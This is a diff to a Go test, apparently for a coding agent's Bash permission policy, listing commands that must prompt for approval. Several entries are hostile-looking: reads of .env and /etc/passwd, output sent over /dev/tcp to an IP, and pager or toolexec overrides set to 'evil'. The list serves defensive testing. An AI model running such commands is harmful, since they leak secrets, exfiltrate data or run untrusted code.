@@ -94,7 +94,7 @@ func TestWorkspaceStarter(t *testing.T) {
 	f(policy.Ask, "Bash", "command",
 		// secrets, and files elsewhere
 		"grep KEY .env", "git diff .env", "git show HEAD:.env", "cat < .env", "cat /etc/passwd", "git diff /etc/passwd /etc/hosts", "git -C /etc log", "cat ../other/a", "ls ~", "cd /etc && cat passwd", "cat $X", "wc -l < /etc/passwd",
-		"docker inspect x", "man /etc/x", "cd", "cd && cat x", "cd -", "cat out/../x", "cat <(cat x)", "awk '{print}' /etc/passwd", "sed -n '1r /etc/passwd' a", "jq -n env", "git diff --no-index a /etc/passwd", "rg --pre cat x",
+		"docker inspect x", "man /etc/x", "cd", "cd && cat x", "cd -", "cat out/../x", "cat <(cat .env)", "cat <(cat /etc/passwd)", "awk '{print}' /etc/passwd", "sed -n '1r /etc/passwd' a", "jq -n env", "git diff --no-index a /etc/passwd", "rg --pre cat x",
 		"find . -fprint /tmp/x", "cat {a,/etc/passwd}", "ls > /dev/tcp/1.2.3.4/80", "ls > *.txt", "cat $(cat list)", "go env -w GOFLAGS=-toolexec=evil", "git -c core.pager=evil log", "sh -c 'cat /etc/passwd'", "grep -r x /", "find / -name x", "sort -o /etc/x a", "git log --output=/tmp/x",
 		// code of others, and what reaches beyond
 		"pnpm cli workspace deploy", "npm run deploy", "npm run build:deploy", "npm run release", "make install", "make deploy", "npm install x", "npm publish", "pip install x", "go get x", "go install x@latest", "cargo install x",
